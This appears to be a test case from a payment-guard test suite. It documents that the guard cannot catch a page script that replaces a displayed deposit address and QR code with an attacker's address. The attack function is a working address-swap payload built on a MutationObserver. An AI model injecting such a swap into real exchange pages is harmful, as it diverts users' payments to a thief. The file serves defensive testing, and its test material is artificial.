// B26: the address that the page shows, and the picture of it, are replaced; nothing is sent.
export default {
  id: 'B26',
  title: 'QR code and displayed address replaced',
  source: 'script for exchange pages, published',
  level: 'out',
  why: 'the guard judges what is sent, not what is shown: whoever pays from another device pays what the page says',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  attack(a) {
    const swap = () => {
      for (const node of document.querySelectorAll('.deposit')) {
        if (node.textContent.includes(a.GOOD)) node.textContent = a.EVIL;
        if (node.alt) Object.assign(node, { alt: a.EVIL, src: `/api/empty?text=${a.EVIL}` });
      }
    };
    new MutationObserver(swap).observe(document, { childList: true, subtree: true });
  },

  async action(a) {
    const text = Object.assign(document.createElement('p'), { className: 'deposit', textContent: a.GOOD });
    const picture = Object.assign(document.createElement('img'), { className: 'deposit', alt: a.GOOD });
    document.body.append(text, picture);
    await new Promise((resolve) => setTimeout(resolve, 50));
    return [text.textContent, picture.alt];
  },

  stolen: ({ result, a }) => result.join() === `${a.EVIL},${a.EVIL}`,
  arrived: ({ result, a }) => result.join() === `${a.GOOD},${a.GOOD}`,
};
